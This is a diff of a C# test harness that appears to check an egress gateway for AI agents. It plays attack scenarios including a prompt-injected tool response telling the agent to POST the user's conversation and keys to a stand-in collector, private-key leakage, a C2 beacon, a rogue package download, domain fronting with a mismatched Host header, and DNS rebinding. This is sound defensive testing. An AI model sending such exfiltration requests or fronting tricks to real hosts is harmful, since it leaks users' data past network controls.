@@ -1,195 +1,191 @@
 using System.Net;
-using System.Net.Security;
-using System.Net.Sockets;
 using System.Security.Cryptography.X509Certificates;
 using System.Text;
 using Corral.Gateway.FlowLog;
+using Corral.Lab.Agents;
 using Corral.Policy.Model;
 
 namespace Corral.Lab;
 
-/// <summary>How the agent plays each scenario, and how the outcome is checked against what reached the far end.</summary>
+/// <summary>
+/// How the agent plays each scenario, and how the outcome is checked against what reached the far end. The same play
+/// runs in both modes: the agent decides how its connections reach the gateway, the checks are the same.
+/// </summary>
 internal static class ScenarioPlays
 {
     private const string ToolCall = """{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"search_docs","arguments":{"query":"Q3 revenue"}}}""";
+    private const string Json = "application/json", Form = "application/x-www-form-urlencoded";
 
     public static Task<ScenarioResult> PlayAsync(Scenario s, ScenarioContext c, CancellationToken ct) => s.Id switch
     {
-        "runtime-startup" => RuntimeStartupAsync(s, c),
-        "approved-tool-call" => ApprovedToolCallAsync(s, c),
-        "prompt-injected-exfiltration" => ExfiltrationAsync(s, c),
-        "secret-to-approved-destination" => SecretAsync(s, c),
-        "lateral-movement" => LateralAsync(s, c),
-        "c2-callback" => DeniedGetAsync(s, c, LabNetwork.CommandAndControl, "/beacon?id=agent-7"),
-        "supply-chain-download" => DeniedGetAsync(s, c, LabNetwork.RogueRegistry, "/simple/requests/requests-2.99.tar.gz"),
-        "domain-fronting" => FrontingAsync(s, c),
-        "dns-rebinding" => RebindingAsync(s, c),
-        "watch-then-enforce" => WatchThenEnforceAsync(s, c),
+        "runtime-startup" => RuntimeStartupAsync(s, c, ct),
+        "approved-tool-call" => ApprovedToolCallAsync(s, c, ct),
+        "prompt-injected-exfiltration" => ExfiltrationAsync(s, c, ct),
+        "secret-to-approved-destination" => SecretAsync(s, c, ct),
+        "lateral-movement" => LateralAsync(s, c, ct),
+        "c2-callback" => DeniedGetAsync(s, c, LabHosts.CommandAndControl, "/beacon?id=agent-7", ct),
+        "supply-chain-download" => DeniedGetAsync(s, c, LabHosts.RogueRegistry, "/simple/requests/requests-2.99.tar.gz", ct),
+        "domain-fronting" => FrontingAsync(s, c, ct),
+        "dns-rebinding" => RebindingAsync(s, c, ct),
+        "watch-then-enforce" => WatchThenEnforceAsync(s, c, ct),
         _ => throw new InvalidOperationException($"no play for {s.Id}"),
     };
 
-    private static async Task<ScenarioResult> RuntimeStartupAsync(Scenario s, ScenarioContext c)
+    private static async Task<ScenarioResult> RuntimeStartupAsync(Scenario s, ScenarioContext c, CancellationToken ct)
     {
-        using var http = c.Agent.Client();
-        var token = await Send(http, HttpMethod.Post, $"https://{LabNetwork.Login.Name}/contoso.onmicrosoft.com/oauth2/v2.0/token", "grant_type=client_credentials&client_id=agent");
-        var manifest = await Send(http, HttpMethod.Get, $"https://{LabNetwork.Registry.Name}/v2/foundry/agent/manifests/latest", null);
-        var login = await WaitForRecord(c, LabNetwork.Login.Name);
-        var registry = await WaitForRecord(c, LabNetwork.Registry.Name);
-        var pinned = c.Agent.SeenCertificates.TryGetValue(LabNetwork.Login.Name, out var l) && l.Issuer.Contains("Lab Microsoft") &&
-                     c.Agent.SeenCertificates.TryGetValue(LabNetwork.Registry.Name, out var r) && r.Issuer.Contains("Lab Microsoft");
-        var passed = token.Status == 200 && manifest.Status == 200 && pinned && Rule(login) == s.ExpectedRule && Rule(registry) == s.ExpectedRule &&
+        var token = await c.Agent.SendAsync(HttpMethod.Post, $"https://{LabHosts.Login.Name}/contoso.onmicrosoft.com/oauth2/v2.0/token", "grant_type=client_credentials&client_id=agent", Form, ct);
+        var manifest = await c.Agent.SendAsync(HttpMethod.Get, $"https://{LabHosts.Registry.Name}/v2/foundry/agent/manifests/latest", null, Form, ct);
+        var login = await WaitForRecord(c, LabHosts.Login.Name);
+        var registry = await WaitForRecord(c, LabHosts.Registry.Name);
+        var pinned = c.Agent.SeenCertificates.TryGetValue(LabHosts.Login.Name, out var l) && l.Issuer.Contains("Lab Microsoft") &&
+                     c.Agent.SeenCertificates.TryGetValue(LabHosts.Registry.Name, out var r) && r.Issuer.Contains("Lab Microsoft");
+        var passed = token.Ok && manifest.Ok && pinned && Rule(login) == s.ExpectedRule && Rule(registry) == s.ExpectedRule &&
                      login?.Decrypted == false && registry?.Decrypted == false;
-        var bytes = c.Server(LabNetwork.Login).BytesReceived + c.Server(LabNetwork.Registry).BytesReceived;
-        return Result(s, $"token {token.Status}, manifest {manifest.Status}, pinned certificate {(pinned ? "matched" : "NOT matched")}", Rule(login), false, bytes, passed);
+        var bytes = c.Server(LabHosts.Login).BytesReceived + c.Server(LabHosts.Registry).BytesReceived;
+        return Result(s, c, $"token {token.Describe()}, manifest {manifest.Describe()}, pinned certificate {(pinned ? "matched" : "NOT matched")}", Rule(login), false, bytes, passed);
     }
 
-    private static async Task<ScenarioResult> ApprovedToolCallAsync(Scenario s, ScenarioContext c)
+    private static async Task<ScenarioResult> ApprovedToolCallAsync(Scenario s, ScenarioContext c, CancellationToken ct)
     {
-        using var http = c.Agent.Client();
-        var call = await Send(http, HttpMethod.Post, $"https://{LabNetwork.Mcp.Name}/mcp", ToolCall, "application/json");
-        c.InjectedUrl = call.Status == 200 ? McpStandIn.InjectedDestination(call.Body) : null;
-        var record = await WaitForRecord(c, LabNetwork.Mcp.Name, FlowEvent.Request);
-        var minted = c.Agent.SeenCertificates.TryGetValue(LabNetwork.Mcp.Name, out var cert) && cert.Issuer == c.InterceptionCa.Subject;
-        var passed = call.Status == 200 && minted && record?.Decrypted == true && record.Url == $"{LabNetwork.Mcp.Name}/mcp" && Rule(record) == s.ExpectedRule;
-        return Result(s, $"{call.Status}, certificate from {(minted ? "Corral's CA" : cert?.Issuer ?? "?")}, logged URL {record?.Url ?? "none"}",
-            Rule(record), record?.Decrypted ?? false, c.Server(LabNetwork.Mcp).BytesReceived, passed);
+        var call = await c.Agent.SendAsync(HttpMethod.Post, $"https://{LabHosts.Mcp.Name}/mcp", ToolCall, Json, ct);
+        c.InjectedUrl = call.Ok ? McpStandIn.InjectedDestination(call.Body) : null;
+        var record = await WaitForRecord(c, LabHosts.Mcp.Name, FlowEvent.Request);
+        var minted = c.Agent.SeenCertificates.TryGetValue(LabHosts.Mcp.Name, out var cert) && cert.Issuer == c.InterceptionCa.Subject;
+        var passed = call.Ok && minted && record?.Decrypted == true && record.Url == $"{LabHosts.Mcp.Name}/mcp" && Rule(record) == s.ExpectedRule;
+        return Result(s, c, $"{call.Describe()}, certificate from {(minted ? "Corral's CA" : cert?.Issuer ?? "?")}, logged URL {record?.Url ?? "none"}",
+            Rule(record), record?.Decrypted ?? false, c.Server(LabHosts.Mcp).BytesReceived, passed);
     }
 
-    private static async Task<ScenarioResult> ExfiltrationAsync(Scenario s, ScenarioContext c)
+    private static async Task<ScenarioResult> ExfiltrationAsync(Scenario s, ScenarioContext c, CancellationToken ct)
     {
         var target = c.InjectedUrl ?? McpStandIn.InjectedUrl;
-        using var http = c.Agent.Client();
-        var before = c.Server(LabNetwork.Collector).BytesReceived;
-        var post = await Send(http, HttpMethod.Post, target, "{\"conversation\":\"…the user's quarterly numbers…\",\"keys\":\"sk-lab-123\"}", "application/json");
-        var record = await WaitForRecord(c, LabNetwork.Collector.Name);
-        var bytes = c.Server(LabNetwork.Collector).BytesReceived - before;
-        var passed = post.Status == 403 && bytes == 0 && Rule(record) == s.ExpectedRule && record?.Verdict?.Enforced == true;
-        return Result(s, $"the tool response said POST to {target}; {Describe(post)}", Rule(record), false, bytes, passed);
+        var before = c.Server(LabHosts.Collector).BytesReceived;
+        var post = await c.Agent.SendAsync(HttpMethod.Post, target, "{\"conversation\":\"…the user's quarterly numbers…\",\"keys\":\"sk-lab-123\"}", Json, ct);
+        var record = await WaitForRecord(c, LabHosts.Collector.Name);
+        var bytes = c.Server(LabHosts.Collector).BytesReceived - before;
+        var passed = post.Refused && bytes == 0 && Rule(record) == s.ExpectedRule && record?.Verdict?.Enforced == true;
+        return Result(s, c, $"the tool response said POST to {target}; {post.Describe()}", Rule(record), false, bytes, passed);
     }
 
-    private static async Task<ScenarioResult> SecretAsync(Scenario s, ScenarioContext c)
+    private static async Task<ScenarioResult> SecretAsync(Scenario s, ScenarioContext c, CancellationToken ct)
     {
-        using var http = c.Agent.Client();
-        var before = c.Server(LabNetwork.Mcp).BytesReceived;
+        var before = c.Server(LabHosts.Mcp).BytesReceived;
         var body = ToolCall.Replace("Q3 revenue", "-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEAlab…");
-        var post = await Send(http, HttpMethod.Post, $"https://{LabNetwork.Mcp.Name}/mcp", body, "application/json");
-        var record = await WaitForRecord(c, LabNetwork.Mcp.Name, FlowEvent.Request, r => r.Refusal is not null);
-        var bytes = c.Server(LabNetwork.Mcp).BytesReceived - before;
-        var passed = post.Status == 403 && record?.Refusal == "payload inspection: private-key" && bytes == 0;
-        return Result(s, $"{Describe(post)}: {record?.Refusal ?? "no refusal logged"}", Rule(record), true, bytes, passed);
+        var post = await c.Agent.SendAsync(HttpMethod.Post, $"https://{LabHosts.Mcp.Name}/mcp", body, Json, ct);
+        var record = await WaitForRecord(c, LabHosts.Mcp.Name, FlowEvent.Request, r => r.Refusal is not null);
+        var bytes = c.Server(LabHosts.Mcp).BytesReceived - before;
+        var passed = post is { Kind: AttemptKind.Response, Status: 403 } && record?.Refusal == "payload inspection: private-key" && bytes == 0;
+        return Result(s, c, $"{post.Describe()}: {record?.Refusal ?? "no refusal logged"}", Rule(record), true, bytes, passed);
     }
 
-    private static async Task<ScenarioResult> LateralAsync(Scenario s, ScenarioContext c)
+    private static async Task<ScenarioResult> LateralAsync(Scenario s, ScenarioContext c, CancellationToken ct)
     {
-        var (status, _) = await c.Agent.ConnectAsync(LabNetwork.SpokeDatabase.ToString(), Encoding.ASCII.GetBytes("\0\0\0\x08\x04\xd2\x16\x2f"));
-        var record = await WaitFor(() => c.LastDecisionTo(LabNetwork.SpokeDatabase));
-        var bytes = c.Database.BytesReceived;
-        return Result(s, $"CONNECT {LabNetwork.SpokeDatabase} answered {status}", Rule(record), false, bytes, status == 403 && bytes == 0 && Rule(record) == s.ExpectedRule);
-    }
-
-    private static async Task<ScenarioResult> DeniedGetAsync(Scenario s, ScenarioContext c, StandIn target, string path)
-    {
-        using var http = c.Agent.Client();
-        var get = await Send(http, HttpMethod.Get, $"https://{target.Name}{path}", null);
-        var record = await WaitForRecord(c, target.Name);
-        var bytes = c.Server(target).BytesReceived;
-        return Result(s, Describe(get), Rule(record), false, bytes, get.Status == 403 && bytes == 0 && Rule(record) == s.ExpectedRule);
-    }
-
-    private static async Task<ScenarioResult> FrontingAsync(Scenario s, ScenarioContext c)
-    {
-        var collectorBefore = c.Server(LabNetwork.Collector).BytesReceived;
-        var mcpBefore = c.Server(LabNetwork.Mcp).BytesReceived;
-        // Approved SNI (mcp.contoso.com) inside the tunnel, attacker's Host in the request.
-        using var client = new TcpClient();
-        await client.ConnectAsync(c.Gateway.ListenEndPoint!);
-        var stream = client.GetStream();
-        await stream.WriteAsync(Encoding.ASCII.GetBytes($"CONNECT {LabNetwork.Mcp.Name}:443 HTTP/1.1\r\nHost: {LabNetwork.Mcp.Name}:443\r\n\r\n"));
-        var buffer = new byte[4096];
-        var n = await stream.ReadAsync(buffer);
-        var status = "no response";
-        if (Encoding.ASCII.GetString(buffer, 0, n).StartsWith("HTTP/1.1 200", StringComparison.Ordinal))
-        {
-            await using var tls = new SslStream(stream);
-            await tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
-            {
-                TargetHost = LabNetwork.Mcp.Name,
-                RemoteCertificateValidationCallback = (_, cert, _, _) => cert is not null && new X509Certificate2(cert).Issuer == c.InterceptionCa.Subject,
-            });
-            var body = "{\"stolen\":\"data\"}";
-            await tls.WriteAsync(Encoding.ASCII.GetBytes($"POST /upload HTTP/1.1\r\nHost: {LabNetwork.Collector.Name}\r\nContent-Type: application/json\r\nContent-Length: {body.Length}\r\n\r\n{body}"));
-            var m = await tls.ReadAsync(buffer).AsTask().WaitAsync(TimeSpan.FromSeconds(20));
-            status = Encoding.ASCII.GetString(buffer, 0, m).Split("\r\n")[0];
-        }
-        var record = await WaitForRecord(c, LabNetwork.Mcp.Name, FlowEvent.Request, r => r.Refusal?.Contains("domain fronting") == true);
-        var bytes = c.Server(LabNetwork.Collector).BytesReceived - collectorBefore + (c.Server(LabNetwork.Mcp).BytesReceived - mcpBefore);
-        return Result(s, $"{status}: {record?.Refusal ?? "no refusal logged"}", null, true, bytes, status.StartsWith("HTTP/1.1 403", StringComparison.Ordinal) && bytes == 0 && record is not null);
-    }
-
-    private static async Task<ScenarioResult> RebindingAsync(Scenario s, ScenarioContext c)
-    {
-        using var http = c.Agent.Client();
+        var database = c.Network.SpokeDatabase;
         var before = c.Database.BytesReceived;
-        var get = await Send(http, HttpMethod.Get, $"https://{LabNetwork.RebindingName}/repos/contoso/agent", null);
-        var record = await WaitForRecord(c, LabNetwork.RebindingName);
+        // A PostgreSQL SSLRequest: what a database client sends first.
+        var attempt = await c.Agent.SendRawAsync(database, [0, 0, 0, 8, 0x04, 0xd2, 0x16, 0x2f], ct);
+        var record = await WaitFor(() => c.LastDecisionTo(database));
         var bytes = c.Database.BytesReceived - before;
-        return Result(s, $"{LabNetwork.RebindingName} resolved to {record?.Destination?.Address}; {Describe(get)}", Rule(record), false, bytes,
-            get.Status == 403 && bytes == 0 && Rule(record) == s.ExpectedRule);
+        return Result(s, c, $"{(c.Mode == LabMode.Explicit ? "CONNECT " : "TCP to ")}{database}: {attempt.Describe()}", Rule(record), false, bytes,
+            attempt.Refused && bytes == 0 && Rule(record) == s.ExpectedRule);
     }
 
-    private static async Task<ScenarioResult> WatchThenEnforceAsync(Scenario s, ScenarioContext c)
+    private static async Task<ScenarioResult> DeniedGetAsync(Scenario s, ScenarioContext c, StandIn target, string path, CancellationToken ct)
+    {
+        var before = c.Server(target).BytesReceived;
+        var get = await c.Agent.SendAsync(HttpMethod.Get, $"https://{target.Name}{path}", null, Form, ct);
+        var record = await WaitForRecord(c, target.Name);
+        var bytes = c.Server(target).BytesReceived - before;
+        return Result(s, c, get.Describe(), Rule(record), false, bytes, get.Refused && bytes == 0 && Rule(record) == s.ExpectedRule);
+    }
+
+    /// <summary>
+    /// Two ways to hide the collector behind the approved MCP server's name: (a) the approved SNI with the attacker's
+    /// Host inside (caught by the decrypting gateway), (b) the approved SNI sent to the collector's address (refused
+    /// as an address tunnel by the explicit proxy; in transparent mode the gateway dials its own resolution of the
+    /// name, never the client's original destination). Either way the collector must get nothing.
+    /// </summary>
+    private static async Task<ScenarioResult> FrontingAsync(Scenario s, ScenarioContext c, CancellationToken ct)
+    {
+        var collector = c.Server(LabHosts.Collector);
+        var mcp = c.Server(LabHosts.Mcp);
+        var collectorBefore = collector.BytesReceived;
+        var mcpBefore = mcp.BytesReceived;
+        var minted = (System.Net.Security.RemoteCertificateValidationCallback)((_, cert, _, _) => cert is not null && new X509Certificate2(cert).Issuer == c.InterceptionCa.Subject);
+
+        // (a) approved SNI, attacker's Host.
+        var hidden = "{\"stolen\":\"data\"}";
+        var (a, refusedA) = await ExchangeAsync(c, LabHosts.Mcp.Name, null, minted,
+            $"POST /upload HTTP/1.1\r\nHost: {LabHosts.Collector.Name}\r\nContent-Type: application/json\r\nContent-Length: {hidden.Length}\r\n\r\n{hidden}", ct);
+        var recordA = await WaitForRecord(c, LabHosts.Mcp.Name, FlowEvent.Request, r => r.Refusal?.Contains("domain fronting") == true);
+        var leakedA = collector.BytesReceived - collectorBefore + (mcp.BytesReceived - mcpBefore);
+        var passedA = a?.StartsWith("HTTP/1.1 403", StringComparison.Ordinal) == true && recordA is not null && leakedA == 0;
+
+        // (b) approved SNI, the collector's address.
+        var mark = c.Records.Count;
+        var collectorAddress = c.Network.AddressOf(LabHosts.Collector);
+        var collectorBeforeB = collector.BytesReceived;
+        var (b, refusedB) = await ExchangeAsync(c, LabHosts.Mcp.Name, collectorAddress, minted,
+            $"POST /mcp HTTP/1.1\r\nHost: {LabHosts.Mcp.Name}\r\nContent-Type: application/json\r\nContent-Length: {ToolCall.Length}\r\n\r\n{ToolCall}", ct);
+        var recordB = await WaitFor(() => c.Records.Skip(mark).LastOrDefault(r => r.Event == FlowEvent.Decision));
+        var leakedB = collector.BytesReceived - collectorBeforeB;
+        var mcpAddress = c.Network.AddressOf(LabHosts.Mcp);
+        var rerouted = recordB?.Destination?.Address.Equals(mcpAddress) == true;
+        var passedB = leakedB == 0 && (refusedB.Refused || b is not null && rerouted);
+        var observedB = refusedB.Refused ? refusedB.Describe() : $"{b ?? refusedB.Describe()}, dialled {recordB?.Destination?.ToString() ?? "?"}{(rerouted ? " (the approved server's own address)" : "")}";
+
+        return Result(s, c, $"Host {LabHosts.Collector.Name} under SNI {LabHosts.Mcp.Name}: {a ?? refusedA.Describe()}: {recordA?.Refusal ?? "no refusal logged"}; " +
+                            $"SNI {LabHosts.Mcp.Name} to the collector's address {collectorAddress}: {observedB}",
+            null, true, leakedA + leakedB, passedA && passedB);
+    }
+
+    /// <summary>Opens TLS as the agent, sends one hand-made request, and returns the response's status line.</summary>
+    private static async Task<(string? StatusLine, Attempt Refusal)> ExchangeAsync(ScenarioContext c, string serverName, IPAddress? at,
+        System.Net.Security.RemoteCertificateValidationCallback validate, string request, CancellationToken ct)
+    {
+        var (stream, refusal) = await c.Agent.OpenTlsAsync(serverName, at, validate, ct);
+        if (stream is null) return (null, refusal);
+        await using (stream)
+        {
+            await stream.WriteAsync(Encoding.ASCII.GetBytes(request), ct);
+            var buffer = new byte[4096];
+            var n = await stream.ReadAsync(buffer, ct).AsTask().WaitAsync(TimeSpan.FromSeconds(20), ct);
+            return (Encoding.ASCII.GetString(buffer, 0, n).Split("\r\n")[0], default);
+        }
+    }
+
+    private static async Task<ScenarioResult> RebindingAsync(Scenario s, ScenarioContext c, CancellationToken ct)
+    {
+        var before = c.SpokeBytes;
+        var get = await c.Agent.SendAsync(HttpMethod.Get, $"https://{LabHosts.RebindingName}/repos/contoso/agent", null, Form, ct);
+        var record = await WaitForRecord(c, LabHosts.RebindingName);
+        var bytes = c.SpokeBytes - before;
+        // In transparent mode the agent itself connected to the rebound address; the gateway judged the SNI's name.
+        var dialled = c.Mode == LabMode.Transparent ? $"the agent connected to {c.Network.SpokeHttps} with SNI {LabHosts.RebindingName}; " : "";
+        return Result(s, c, $"{dialled}{LabHosts.RebindingName} resolved to {record?.Destination?.Address}; {get.Describe()}", Rule(record), false, bytes,
+            get.Refused && bytes == 0 && Rule(record) == s.ExpectedRule);
+    }
+
+    private static async Task<ScenarioResult> WatchThenEnforceAsync(Scenario s, ScenarioContext c, CancellationToken ct)
     {
         const string rule = "default-deny-internet";
-        var collector = c.Server(LabNetwork.Collector);
-        c.SetMode(rule, RuleMode.Watch);
-        HttpResult watched;
-        using (var http = c.Agent.Client())
-            watched = await Send(http, HttpMethod.Post, McpStandIn.InjectedUrl, "{\"conversation\":\"watched\"}", "application/json");
-        var watchedRecord = await WaitForRecord(c, LabNetwork.Collector.Name, null, r => r.Verdict is { Enforced: false });
+        var collector = c.Server(LabHosts.Collector);
+        var before = collector.BytesReceived;
+        await c.Promoter.SetModeAsync(rule, RuleMode.Watch, ct);
+        var watched = await c.Agent.SendAsync(HttpMethod.Post, McpStandIn.InjectedUrl, "{\"conversation\":\"watched\"}", Json, ct);
+        var watchedRecord = await WaitForRecord(c, LabHosts.Collector.Name, null, r => r.Verdict is { Enforced: false });
         var afterWatch = collector.BytesReceived;
 
-        c.SetMode(rule, RuleMode.Enforce);
-        HttpResult enforced;
-        using (var http = c.Agent.Client())
-            enforced = await Send(http, HttpMethod.Post, McpStandIn.InjectedUrl, "{\"conversation\":\"enforced\"}", "application/json");
-        var enforcedRecord = await WaitForRecord(c, LabNetwork.Collector.Name, null, r => r.Verdict is { Enforced: true } && r.Time > watchedRecord?.Time);
+        await c.Promoter.SetModeAsync(rule, RuleMode.Enforce, ct);
+        var enforced = await c.Agent.SendAsync(HttpMethod.Post, McpStandIn.InjectedUrl, "{\"conversation\":\"enforced\"}", Json, ct);
+        var enforcedRecord = await WaitForRecord(c, LabHosts.Collector.Name, null, r => r.Verdict is { Enforced: true } && r.Time > watchedRecord?.Time);
         var leakedAfterPromotion = collector.BytesReceived - afterWatch;
-        var passed = watched.Status == 200 && watchedRecord is not null && afterWatch > 0 && enforced.Status == 403 && leakedAfterPromotion == 0 && Rule(enforcedRecord) == rule;
-        return Result(s, $"watch: {watched.Status}, logged enforced=false; promoted: {Describe(enforced)}", Rule(enforcedRecord), false, leakedAfterPromotion, passed,
-            $"{afterWatch} bytes reached the collector while watched; {leakedAfterPromotion} after promotion");
+        var passed = watched.Ok && watchedRecord is not null && afterWatch > before && enforced.Refused && leakedAfterPromotion == 0 && Rule(enforcedRecord) == rule;
+        return Result(s, c, $"watch: {watched.Describe()}, logged enforced=false; promoted: {enforced.Describe()}", Rule(enforcedRecord), false, leakedAfterPromotion, passed,
+            $"{afterWatch - before} bytes reached the collector while watched; {leakedAfterPromotion} after promotion");
     }
 
     // ---- helpers ---------------------------------------------------------------------------------------------
-
-    private readonly record struct HttpResult(int Status, string Body, string? Error);
-
-    private static async Task<HttpResult> Send(HttpClient http, HttpMethod method, string url, string? body, string contentType = "application/x-www-form-urlencoded")
-    {
-        var request = new HttpRequestMessage(method, url);
-        if (body is not null) request.Content = new StringContent(body, Encoding.UTF8, contentType);
-        try
-        {
-            using var response = await http.SendAsync(request);
-            return new HttpResult((int)response.StatusCode, await response.Content.ReadAsStringAsync(), null);
-        }
-        catch (HttpRequestException e) when (e.HttpRequestError == HttpRequestError.ProxyTunnelError || e.Message.Contains("403"))
-        {
-            // A refused CONNECT: HttpClient reports the proxy's status in the message.
-            return new HttpResult(e.Message.Contains("403") ? 403 : 502, "", e.Message);
-        }
-        catch (HttpRequestException e)
-        {
-            return new HttpResult(0, "", e.InnerException?.Message ?? e.Message);
-        }
-    }
-
-    private static string Describe(HttpResult r) => r.Status switch
-    {
-        403 when r.Error is not null => "CONNECT refused by the gateway (403)",
-        403 => "403 from the gateway",
-        0 => $"failed: {r.Error}",
-        _ => $"HTTP {r.Status}",
-    };
 
     private static string? Rule(FlowRecord? record) => record?.Verdict?.Rule?.Name;
 
@@ -206,6 +202,6 @@ internal static class ScenarioPlays
         return null;
     }
 
-    private static ScenarioResult Result(Scenario s, string observed, string? rule, bool decrypted, long bytes, bool passed, string? detail = null) =>
-        new(s.Number, s.Id, s.Title, s.Expected, observed, rule, decrypted, s.Owasp, bytes, passed, detail);
+    private static ScenarioResult Result(Scenario s, ScenarioContext c, string observed, string? rule, bool decrypted, long bytes, bool passed, string? detail = null) =>
+        new(s.Number, s.Id, s.Title, c.Mode.Name(), s.Expected, observed, rule, decrypted, s.Owasp, bytes, passed ? ScenarioOutcome.Pass : ScenarioOutcome.Fail, detail);
 }
